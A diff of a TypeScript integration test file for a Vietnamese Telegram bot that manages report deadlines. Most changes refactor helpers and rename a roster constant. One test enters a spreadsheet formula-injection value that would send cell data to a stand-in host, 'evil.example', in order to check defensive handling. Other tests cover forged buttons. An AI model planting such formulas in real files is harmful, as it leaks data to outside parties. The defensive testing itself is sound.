@@ -1,12 +1,10 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { StoredMessage } from '../../src/emulator/botApiEmulator.js';
+import { buttonsOf, Chat } from '../helpers/chat.js';
 import { cli } from '../helpers/cli.js';
 import { startHarness, type Harness } from '../helpers/harness.js';
 import { outboxDrained } from '../helpers/outbox.js';
-import { P, personId, setupOrg, unitId, user, type Who } from './people.js';
-
-const buttonsOf = (m: StoredMessage) =>
-  ((m.reply_markup as { inline_keyboard?: { text: string; callback_data?: string }[][] } | undefined)?.inline_keyboard ?? []).flat();
+import { ROSTER, personId, setupOrg, unitId, user, type Who } from '../helpers/roster.js';
 
 describe('deadlines in chat', () => {
   let h: Harness;
@@ -18,14 +16,12 @@ describe('deadlines in chat', () => {
   });
   afterAll(() => h?.stop());
 
-  /** Sends a text as `who` and returns the bot's next message to them. */
-  async function say(who: Who, text: string): Promise<StoredMessage> {
-    const n = h.emulator.messagesTo(P[who].tg).length;
-    h.emulator.sendText(user(who), text);
-    return (await h.emulator.waitForMessages(P[who].tg, n + 1)).at(-1)!;
-  }
+  const chat = (who: Who) => Chat.of(() => h, who);
 
-  /** Presses a button as `who`; returns the popup text and, if `reply`, the next message. */
+  /** Sends a text as `who` and returns the bot's next message to them. */
+  const say = (who: Who, text: string): Promise<StoredMessage> => chat(who).say(text);
+
+  /** Presses a button of `msg` as `who`; returns the popup text and, if `reply`, the next message. */
   async function press(
     who: Who,
     msg: StoredMessage,
@@ -33,11 +29,8 @@ describe('deadlines in chat', () => {
     reply = true,
     force = false,
   ): Promise<{ popup: string | undefined; next?: StoredMessage }> {
-    const n = h.emulator.messagesTo(P[who].tg).length;
-    const q = h.emulator.pressButton(user(who), msg, data, { force });
-    const answer = await h.emulator.waitForCallbackAnswer(q);
-    if (!reply) return { popup: answer.text };
-    return { popup: answer.text, next: (await h.emulator.waitForMessages(P[who].tg, n + 1)).at(-1)! };
+    const { answer, message } = await chat(who).press(data, force ? { force: msg, reply } : { on: msg, reply });
+    return reply ? { popup: answer.text, next: message } : { popup: answer.text };
   }
 
   it('announces a deadline for three chi bộ at once; "Đã nộp" stops that unit and shows in status and /hanchot', async () => {
@@ -53,15 +46,15 @@ describe('deadlines in chat', () => {
       '--doc',
       '65-CV/BTGQU',
       '--by',
-      P.binh.phone,
+      ROSTER.binh.phone,
     );
     expect(created.code, created.err).toBe(0);
     const id = Number(created.out.split('\n')[0]);
     const cb1 = await unitId(h.database, 'CB1-BTG');
     const cb3 = await unitId(h.database, 'CB3-BTG');
 
-    const [toLan] = await h.emulator.waitForMessages(P.lan.tg, 1);
-    for (const who of ['hanh', 'hung', 'long'] as const) await h.emulator.waitForMessages(P[who].tg, 1);
+    const [toLan] = await h.emulator.waitForMessages(ROSTER.lan.tg, 1);
+    for (const who of ['hanh', 'hung', 'long'] as const) await h.emulator.waitForMessages(ROSTER[who].tg, 1);
     expect(toLan!.plainText).toContain('Hạn báo cáo mới');
     expect(toLan!.plainText).toContain('Đơn vị: Chi bộ 3 (Văn phòng Ban) (CB3-BTG)');
     expect(toLan!.plainText).toContain('Hạn: trước 23:59 Thứ Năm, 31/12/2026 (còn 1 ngày, hạn là ngày mai)');
@@ -76,7 +69,7 @@ describe('deadlines in chat', () => {
     expect(popup).toBe('Đã ghi nhận');
     expect(next!.plainText).toContain('Đã ghi nhận: Chi bộ 3 (Văn phòng Ban) (CB3-BTG) đã nộp');
     expect(buttonsOf(next!).map((b) => b.callback_data)).toEqual([`dl:undo:${id}:${cb3}`]);
-    const [, toLong] = await h.emulator.waitForMessages(P.long.tg, 2);
+    const [, toLong] = await h.emulator.waitForMessages(ROSTER.long.tg, 2);
     expect(toLong!.plainText).toContain('Đơn vị đã báo cáo');
     expect(toLong!.plainText).toContain('đồng chí Huỳnh Thị Lan ghi nhận');
 
@@ -88,7 +81,7 @@ describe('deadlines in chat', () => {
     expect(status.out).toMatch(/CB3-BTG .*Huỳnh Thị Lan .*bao-cao-cb3\.pdf/);
 
     // Pressing again (Long, on his announcement) says who reported already.
-    const longFirst = h.emulator.messagesTo(P.long.tg)[0]!;
+    const longFirst = h.emulator.messagesTo(ROSTER.long.tg)[0]!;
     const again = await press('long', longFirst, `dl:done:${id}:${cb3}`);
     expect(again.next!.plainText).toContain('đã được ghi nhận nộp');
     expect(again.next!.plainText).toContain('Huỳnh Thị Lan');
@@ -103,17 +96,22 @@ describe('deadlines in chat', () => {
     expect(buttonsOf(hanhList).map((b) => b.callback_data)).toEqual([`dl:done:${id}:${cb1}`]);
 
     // Tomorrow's reminder goes to CB1 and CB2 only.
-    const before = { hanh: 2, hung: 1, lan: h.emulator.messagesTo(P.lan.tg).length, long: h.emulator.messagesTo(P.long.tg).length };
+    const before = {
+      hanh: 2,
+      hung: 1,
+      lan: h.emulator.messagesTo(ROSTER.lan.tg).length,
+      long: h.emulator.messagesTo(ROSTER.long.tg).length,
+    };
     await h.at('2026-12-31T08:00');
-    expect((await h.emulator.waitForMessages(P.hanh.tg, before.hanh + 1)).at(-1)!.plainText).toContain('Hôm nay là hạn chót');
-    await h.emulator.waitForMessages(P.hung.tg, before.hung + 1);
+    expect((await h.emulator.waitForMessages(ROSTER.hanh.tg, before.hanh + 1)).at(-1)!.plainText).toContain('Hôm nay là hạn chót');
+    await h.emulator.waitForMessages(ROSTER.hung.tg, before.hung + 1);
     const keys = await h.db.outboxMessage.findMany({ where: { dedupeKey: { startsWith: `deadline:${id}:`, contains: ':d-0:' } } });
     expect(keys).toHaveLength(2);
-    expect(h.emulator.messagesTo(P.lan.tg)).toHaveLength(before.lan);
-    expect(h.emulator.messagesTo(P.long.tg)).toHaveLength(before.long);
+    expect(h.emulator.messagesTo(ROSTER.lan.tg)).toHaveLength(before.lan);
+    expect(h.emulator.messagesTo(ROSTER.long.tg)).toHaveLength(before.long);
 
     // Lan's undo is refused the next day.
-    const lanConfirm = h.emulator.messagesTo(P.lan.tg).find((m) => m.plainText.includes('Đã ghi nhận:'))!;
+    const lanConfirm = h.emulator.messagesTo(ROSTER.lan.tg).find((m) => m.plainText.includes('Đã ghi nhận:'))!;
     expect((await press('lan', lanConfirm, `dl:undo:${id}:${cb3}`, false)).popup).toContain('trong ngày');
   });
 
@@ -122,7 +120,7 @@ describe('deadlines in chat', () => {
     const created = await run('deadline', 'add', '--title', 'Báo cáo sơ kết năm', '--due', '05/01/2027', '--units', 'CB2-BTG,CB1-MT');
     const id = Number(created.out.split('\n')[0]);
     const cb2 = await unitId(h.database, 'CB2-BTG');
-    await h.emulator.waitUntil(() => h.emulator.messagesTo(P.hung.tg).some((m) => m.plainText.includes('Báo cáo sơ kết năm')));
+    await h.emulator.waitUntil(() => h.emulator.messagesTo(ROSTER.hung.tg).some((m) => m.plainText.includes('Báo cáo sơ kết năm')));
 
     // Hùng has two deadlines open (this one and the one above): /danop asks which.
     const choose = await say('hung', '/danop');
@@ -134,10 +132,10 @@ describe('deadlines in chat', () => {
 
     // Ngọc (CB1-MT) cannot record for CB2; Hạnh cannot undo Hùng's record.
     const toNgoc = await h.emulator.waitUntil(() =>
-      h.emulator.messagesTo(P.ngoc.tg).find((m) => m.plainText.includes('Báo cáo sơ kết năm')),
+      h.emulator.messagesTo(ROSTER.ngoc.tg).find((m) => m.plainText.includes('Báo cáo sơ kết năm')),
     );
     expect((await press('ngoc', toNgoc, `dl:done:${id}:${cb2}`, true, true)).next!.plainText).toContain('Chỉ bí thư, phó bí thư');
-    const q2 = h.emulator.pressButton(user('hanh'), h.emulator.lastMessage(P.hanh.tg)!, `dl:undo:${id}:${cb2}`, { force: true });
+    const q2 = h.emulator.pressButton(user('hanh'), h.emulator.lastMessage(ROSTER.hanh.tg)!, `dl:undo:${id}:${cb2}`, { force: true });
     expect((await h.emulator.waitForCallbackAnswer(q2)).text).toBe('Chỉ người đã ghi nhận mới hoàn tác được.');
 
     // Hùng undoes: the record is gone and the message says so.
@@ -172,7 +170,7 @@ describe('deadlines in chat', () => {
     // The morning digest comes first (the bot "started" at 10:00 and catches up).
     for (const who of ['dung', 'binh'] as const) {
       const digest = await h.emulator.waitUntil(() =>
-        h.emulator.messagesTo(P[who].tg).find((m) => m.plainText.includes('Đơn vị chậm báo cáo')),
+        h.emulator.messagesTo(ROSTER[who].tg).find((m) => m.plainText.includes('Đơn vị chậm báo cáo')),
       );
       expect(digest.plainText).toContain('Chi bộ 2 (Phòng Lý luận chính trị) (CB2-BTG) — Bí thư Đặng Văn Hùng, 0913 222 444');
       expect(digest.plainText).not.toContain('CB3-BTG');
@@ -198,7 +196,7 @@ describe('deadlines in chat', () => {
     expect((await say('dung', '/tiendo 99999')).plainText).toContain('Không có hạn báo cáo số 99999');
 
     // "Chi tiết" on Hạnh's announcement: the deadline, her unit's status and the reminder days.
-    const announcement = h.emulator.messagesTo(P.hanh.tg)[0]!;
+    const announcement = h.emulator.messagesTo(ROSTER.hanh.tg)[0]!;
     const info = await press('hanh', announcement, `dl:info:${id}:${await unitId(h.database, 'CB1-BTG')}`);
     expect(info.next!.plainText).toContain('Chi tiết hạn báo cáo');
     expect(info.next!.plainText).toContain('Chi bộ 1 (Phòng Tuyên truyền) (CB1-BTG): ⚠️ Chưa nộp, đã quá hạn');
@@ -208,7 +206,7 @@ describe('deadlines in chat', () => {
     // Dũng supervises all three units: he sees the whole count and any unit's status.
     const dungInfo = await press(
       'dung',
-      h.emulator.lastMessage(P.dung.tg)!,
+      h.emulator.lastMessage(ROSTER.dung.tg)!,
       `dl:info:${id}:${await unitId(h.database, 'CB3-BTG')}`,
       true,
       true,
@@ -250,7 +248,7 @@ describe('deadlines in chat', () => {
     expect(preview.plainText).toContain('Nhắc hạn: 08/01, 12/01, 14/01, 15/01, lúc 08:00');
     expect(await h.db.deadline.count({ where: { title: 'Báo cáo kết quả học tập Nghị quyết' } })).toBe(0);
 
-    const phucBefore = h.emulator.messagesTo(P.phuc.tg).length;
+    const phucBefore = h.emulator.messagesTo(ROSTER.phuc.tg).length;
     await press('binh', preview, 'dl:nok', false);
     await h.emulator.waitUntil(() => preview.plainText.includes('Đã tạo hạn báo cáo #'));
     const d = await h.db.deadline.findFirstOrThrow({ where: { title: 'Báo cáo kết quả học tập Nghị quyết' }, include: { units: true } });
@@ -258,7 +256,7 @@ describe('deadlines in chat', () => {
     expect(d.createdById).toBe(await personId(h.database, 'binh'));
     expect(d.docNumber).toBe('65-CV/BTGQU');
     expect(d.link).toBe('https://tuyengiao.example.vn/tai-lieu');
-    const ann = (await h.emulator.waitForMessages(P.phuc.tg, phucBefore + 1)).at(-1)!;
+    const ann = (await h.emulator.waitForMessages(ROSTER.phuc.tg, phucBefore + 1)).at(-1)!;
     expect(ann.plainText).toContain('Báo cáo kết quả học tập Nghị quyết');
     // A second press of the same button does nothing.
     const again = h.emulator.pressButton(user('binh'), preview, 'dl:nok', { force: true });
@@ -289,15 +287,17 @@ describe('deadlines in chat', () => {
       '--doc',
       '3080-CV/BTGTU',
       '--by',
-      P.binh.phone,
+      ROSTER.binh.phone,
     );
     expect(created.code, created.err).toBe(0);
     const id = Number(created.out.split('\n')[0]);
     const cb1 = await unitId(h.database, 'CB1-BTG');
     const toHanh = await h.emulator.waitUntil(() =>
-      h.emulator.messagesTo(P.hanh.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I')),
+      h.emulator.messagesTo(ROSTER.hanh.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I')),
     );
-    await h.emulator.waitUntil(() => h.emulator.messagesTo(P.ngoc.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I')));
+    await h.emulator.waitUntil(() =>
+      h.emulator.messagesTo(ROSTER.ngoc.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I')),
+    );
 
     // Hạnh reports and types a spreadsheet formula as the note (M6).
     const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Chi tiết")';
@@ -318,7 +318,7 @@ describe('deadlines in chat', () => {
     const { id } = await h.db.deadline.findFirstOrThrow({ where: { title: 'Báo cáo công tác dân vận quý I' } });
     const cb1 = await unitId(h.database, 'CB1-BTG');
     const mt = await unitId(h.database, 'CB1-MT');
-    const toNgoc = h.emulator.messagesTo(P.ngoc.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I'))!;
+    const toNgoc = h.emulator.messagesTo(ROSTER.ngoc.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I'))!;
     // F4: Ngọc (CB1-MT) forges «Chi tiết» for CB1-BTG: the deadline, but not Hạnh's report.
     const forged = await press('ngoc', toNgoc, `dl:info:${id}:${cb1}`, true, true);
     expect(forged.next!.plainText).toContain('Báo cáo công tác dân vận quý I');
@@ -333,20 +333,20 @@ describe('deadlines in chat', () => {
     expect(own.next!.plainText).toContain('Chi bộ 1 (Ban Dân chủ – Pháp luật) (CB1-MT): ⏳ Chưa nộp');
     expect(buttonsOf(own.next!).map((b) => b.callback_data)).toEqual([`dl:done:${id}:${mt}`]);
     // Bình created it: every unit and the whole count.
-    const binh = await press('binh', h.emulator.lastMessage(P.binh.tg)!, `dl:info:${id}:${cb1}`, true, true);
+    const binh = await press('binh', h.emulator.lastMessage(ROSTER.binh.tg)!, `dl:info:${id}:${cb1}`, true, true);
     expect(binh.next!.plainText).toContain('CB1-BTG): ✅ Đã nộp');
     expect(binh.next!.plainText).toContain('Võ Thị Hạnh');
     expect(binh.next!.plainText).toContain('Các đơn vị đã nộp: 1/2');
     // Phúc (CBCS-HLH) is not concerned at all.
-    const phuc = await press('phuc', h.emulator.lastMessage(P.phuc.tg)!, `dl:info:${id}`, true, true);
+    const phuc = await press('phuc', h.emulator.lastMessage(ROSTER.phuc.tg)!, `dl:info:${id}`, true, true);
     expect(phuc.next!.plainText).toContain('Hạn báo cáo này không còn');
   });
 
   it('answers forged or stale buttons with the "stale button" popup and nothing else', async () => {
     await outboxDrained(h.db);
     const { id } = await h.db.deadline.findFirstOrThrow({ where: { title: 'Báo cáo công tác dân vận quý I' } });
-    const msg = h.emulator.lastMessage(P.ngoc.tg)!;
-    const before = h.emulator.messagesTo(P.ngoc.tg).length;
+    const msg = h.emulator.lastMessage(ROSTER.ngoc.tg)!;
+    const before = h.emulator.messagesTo(ROSTER.ngoc.tg).length;
     for (const data of [
       'dl:info',
       'dl:info:abc',
@@ -365,6 +365,6 @@ describe('deadlines in chat', () => {
       expect((await h.emulator.waitForCallbackAnswer(q)).text, data).toBe('Nút này đã cũ, vui lòng gõ lại lệnh.');
     }
     expect((await say('ngoc', '/hanchot')).plainText).toContain('Hạn báo cáo của đơn vị đồng chí');
-    expect(h.emulator.messagesTo(P.ngoc.tg)).toHaveLength(before + 1);
+    expect(h.emulator.messagesTo(ROSTER.ngoc.tg)).toHaveLength(before + 1);
   });
 });
